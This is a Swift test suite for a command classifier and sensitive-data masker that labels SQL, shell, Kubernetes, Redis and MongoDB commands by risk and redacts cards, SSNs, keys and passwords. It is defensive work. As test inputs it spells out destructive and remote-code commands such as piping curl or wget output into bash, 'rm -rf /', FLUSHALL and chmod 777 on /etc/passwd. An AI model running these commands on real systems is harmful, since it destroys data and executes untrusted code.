@testable import AccessEvidence
import Testing

@Suite struct ClassifierTests {
    @Test(arguments: [
        ("SELECT * FROM users", [CommandKind.sqlRead]),
        ("select 'drop table users' from dual", [.sqlRead]),
        ("SELECT 1; -- DELETE FROM users", [.sqlRead]),
        ("/* DROP TABLE x; */ SELECT 1", [.sqlRead]),
        ("/* nested /* DROP */ still comment */ SELECT 1", [.sqlRead]),
        ("SELECT $$ DELETE FROM x $$", [.sqlRead]),
        ("SELECT $body$ ; DROP TABLE x; $body$", [.sqlRead]),
        ("SELECT \"delete\" FROM \"drop\"", [.sqlRead]),
        ("SELECT E'it\\'s; DROP TABLE x'", [.sqlRead]),
        ("SELECT 'it''s; DROP TABLE x'", [.sqlRead]),
        ("update users set admin = true", [.sqlUnboundedWrite]),
        ("UPDATE users SET note = 'where' WHERE id = 1", [.sqlWrite]),
        ("UPDATE users SET note = 'x WHERE y'", [.sqlUnboundedWrite]),
        ("DELETE FROM users", [.sqlUnboundedWrite]),
        ("delete from users where id in (select id from banned)", [.sqlWrite]),
        ("DELETE FROM users WHERE id IN (SELECT id FROM x WHERE a = 1) ", [.sqlWrite]),
        ("INSERT INTO t VALUES (1)", [.sqlWrite]),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1", [.sqlWrite]),
        ("COPY users FROM '/tmp/u.csv'", [.sqlWrite]),
        ("COPY users TO '/tmp/u.csv'", [.sqlExport]),
        ("COPY (SELECT * FROM users) TO STDOUT", [.sqlExport]),
        ("SELECT * INTO OUTFILE '/tmp/x' FROM users", [.sqlExport]),
        ("CREATE TABLE x (id int)", [.sqlDDL]),
        ("drop table x", [.sqlDDL]),
        ("TRUNCATE payments", [.sqlDDL]),
        ("GRANT SELECT ON x TO bob", [.sqlDCL]),
        ("revoke all on x from bob", [.sqlDCL]),
        ("WITH d AS (DELETE FROM x RETURNING *) SELECT * FROM d", [.sqlUnboundedWrite]),
        ("WITH a AS (SELECT 1) SELECT * FROM a", [.sqlRead]),
        ("EXPLAIN ANALYZE DELETE FROM x", [.sqlUnboundedWrite]),
        ("EXPLAIN DELETE FROM x", [.sqlRead]),
        ("BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT;", [.sqlTransaction, .sqlWrite]),
        ("CALL refresh_all()", [.sqlProcedure]),
        ("VACUUM FULL users", [.sqlAdmin]),
    ] as [(String, [CommandKind])])
    func sql(_ text: String, _ expected: [CommandKind]) {
        #expect(SQLClassifier.classify(text) == Set(expected), "\(text)")
    }

    @Test(arguments: [
        ("ls -la /etc", [CommandKind.shellRead]),
        ("sudo ls", [.shellPrivilegeEscalation, .shellRead]),
        ("sudo -u postgres psql -c 'DROP TABLE x'", [.shellPrivilegeEscalation, .sqlDDL]),
        ("rm -rf /var/lib/app", [.shellDestructive]),
        ("rm --recursive build", [.shellDestructive]),
        ("rm notes.txt", [.shellRead]),
        ("echo 'rm -rf /'", [.shellRead]),
        ("# sudo rm -rf /\nls", [.shellRead]),
        ("chmod 777 /etc/passwd", [.shellPermissions]),
        ("systemctl restart nginx", [.shellService]),
        ("systemctl status nginx", [.shellRead]),
        ("curl -s https://x.example/i.sh | bash", [.shellRead, .shellRemoteCode]),
        ("wget -qO- https://x.example/i.sh | sudo sh", [.shellRead, .shellRemoteCode, .shellPrivilegeEscalation]),
        ("curl https://x.example/api | jq .", [.shellRead]),
        ("kubectl get pods -n prod", [.k8sRead]),
        ("kubectl -n prod delete pod x", [.k8sMutation]),
        ("kubectl exec -it api-0 -- sh", [.k8sExec]),
        ("kubectl rollout restart deploy/api", [.k8sMutation]),
        ("kubectl rollout status deploy/api", [.k8sRead]),
        ("helm upgrade api ./chart", [.k8sMutation]),
        ("redis-cli -h cache FLUSHALL", [.redisDestructive]),
        ("redis-cli get key", [.redisRead]),
        ("FLUSHDB", [.redisDestructive]),
        ("apt-get install -y netcat", [.shellPackage]),
        ("useradd mallory", [.shellAccountChange]),
        ("FOO=1 env BAR=2 rm -rf /tmp/x", [.shellDestructive]),
        ("ls; sudo reboot", [.shellRead, .shellPrivilegeEscalation, .shellService]),
        ("curl -s https://x.example/i.sh | sudo -p pw sh", [.shellRead, .shellRemoteCode, .shellPrivilegeEscalation]),
        ("sudo env LANG=C sudo -u root rm -rf /srv", [.shellPrivilegeEscalation, .shellDestructive]),
        ("su -c 'systemctl stop nginx'", [.shellPrivilegeEscalation, .shellService]),
    ] as [(String, [CommandKind])])
    func shell(_ text: String, _ expected: [CommandKind]) {
        #expect(ShellClassifier.classify(text) == Set(expected), "\(text)")
    }

    @Test func stackedWrappersAreUnwrappedInOnePass() {
        // 30,000 stacked sudos (150,000 characters, under the tokenizer's 200,000): one loop, no recursion per wrapper.
        let text = String(repeating: "sudo ", count: 30_000) + "rm -rf /"
        #expect(ShellClassifier.classify(text) == [.shellPrivilegeEscalation, .shellDestructive])
    }

    @Test func otherProtocols() {
        #expect(CommandClassifier.classify("db.users.drop()", protocol: .mongodb) == [.mongoDestructive])
        #expect(CommandClassifier.classify("db.users.find({name: 'db.x.drop()'})", protocol: .mongodb) == [.mongoRead])
        #expect(CommandClassifier.classify("{\"delete\": \"users\", \"deletes\": []}", protocol: .mongodb) == [.mongoWrite])
        #expect(CommandClassifier.classify("DELETE /api/v1/namespaces/prod/pods/x HTTP/1.1", protocol: .kubernetes) == [.k8sMutation])
        #expect(CommandClassifier.classify("POST /api/v1/namespaces/prod/pods/x/exec?command=sh HTTP/1.1", protocol: .kubernetes) == [.k8sExec])
        #expect(CommandClassifier.classify("GET /v1/invoices HTTP/1.1", protocol: .http) == [.httpRead])
        #expect(CommandClassifier.classify("DROP TABLE x", protocol: .mysql) == [.sqlDDL])
    }

    @Test func masksSensitiveValuesInEvidence() {
        let text = "UPDATE c SET card='4111 1111 1111 1111', ssn='123-45-6789', mail='jane.doe@corp.example' WHERE key='AKIAABCDEFGHIJKLMNOP'"
        let masked = SensitiveData.mask(text)
        #expect(masked == "UPDATE c SET card='4111 **** **** 1111', ssn='***-**-6789', mail='j***@corp.example' WHERE key='AKIA************MNOP'")
        // Near misses stay as they are: a Luhn failure, an invalid SSN area, a version string.
        #expect(SensitiveData.mask("order 4111111111111112, ssn 666-12-3456, v1.2.3") == "order 4111111111111112, ssn 666-12-3456, v1.2.3")
        #expect(SensitiveData.mask("key -----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY----- done")
                == "key [RSA PRIVATE KEY block redacted] done")
        // White space collapses; other controls are shown as codes, as everywhere the gate applies.
        #expect(Evidence.excerpt("a\u{1b}[31m\nb\t c") == "a[U+001B][31m b c")
        // Separators the scanner does not take are normalised before masking, not after.
        #expect(Evidence.excerpt("card 4111\t1111\t1111\t1111 and 4111  1111  1111  1111") == "card 4111 **** **** 1111 and 4111 **** **** 1111")
        // Bounded in Unicode scalars, so combining marks cannot make an excerpt arbitrarily long.
        let zalgo = String(repeating: "e\u{301}\u{302}\u{303}", count: 200)
        #expect(Evidence.excerpt(zalgo, limit: 40).unicodeScalars.count == 40 + " …[760 more characters]".unicodeScalars.count)
    }

    @Test func masksCredentialsInCommands() {
        let cases: [(String, String)] = [
            ("psql postgres://admin:S3cret!@db.prod/app -c 'DROP TABLE x'", "psql postgres://admin:****@db.prod/app -c 'DROP TABLE x'"),
            ("CREATE USER etl WITH PASSWORD 'hunter2';", "CREATE USER etl WITH PASSWORD ****;"),
            ("ALTER USER 'app'@'%' IDENTIFIED BY \"pa ss\"", "ALTER USER 'app'@'%' IDENTIFIED BY ****"),
            ("PGPASSWORD=topsecret pg_dump -h db app", "PGPASSWORD=**** pg_dump -h db app"),
            ("mysql -u root -pRootPw -e 'DROP DATABASE shop'", "mysql -u root -p**** -e 'DROP DATABASE shop'"),
            ("curl --password=abc https://x", "curl --password=**** https://x"),
        ]
        for (command, shown) in cases { #expect(Evidence.excerpt(command) == shown) }
        // Commands without credentials are left alone.
        #expect(Evidence.excerpt("mkdir -p /srv/app && ls https://example.org/a") == "mkdir -p /srv/app && ls https://example.org/a")
        // Reasons keep identities' e-mail addresses but not what else the store put in them.
        #expect(Evidence.reason("ana@acme.example failed: card 4111 1111 1111 1111 rejected") == "ana@acme.example failed: card 4111 **** **** 1111 rejected")
    }
}

@Suite struct SensitiveDataTests {
    func kinds(_ text: String) -> [SensitiveData.Kind] { SensitiveData.scan(Array(text.utf8)).map(\.kind) }

    @Test(arguments: [
        ("4111111111111111", SensitiveData.Kind.cardNumber),
        ("card 5500-0000-0000-0004 ok", .cardNumber),
        ("amex 3782 822463 10005", .cardNumber),
        ("ssn 123-45-6789", .usSSN),
        ("GB82 WEST 1234 5698 7654 32", .iban),
        ("DE89370400440532013000", .iban),
        ("AKIAIOSFODNN7EXAMPLE", .awsAccessKey),
        ("token ghp_16C7e42F292c6912E7710c838347Ae178B4a x", .apiToken),
        ("xoxb-123456789012-abcdefghijklmnop", .apiToken),
        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefghijk", .jwt),
        ("mail jane@corp.example", .email),
    ])
    func finds(_ text: String, _ kind: SensitiveData.Kind) {
        #expect(kinds(text) == [kind], "\(text)")
    }

    @Test(arguments: [
        "4111111111111112",              // fails Luhn
        "4111 **** **** 1111",           // already masked
        "1234567890123456",              // no issuer
        "order 41111111111111119999",    // too long to be a card
        "000-12-3456", "666-12-3456", "912-12-3456", "123-00-4567", "123-45-0000",
        "GB82 WEST 1234 5698 7654 33",   // bad IBAN check digits
        "AKIAIOSFODNN7EXAMPL",           // one character short
        "***-**-6789", "v1.2.3.4", "2026-09-30", "ghp_short",
    ])
    func ignores(_ text: String) {
        #expect(kinds(text).isEmpty, "\(text)")
    }
}
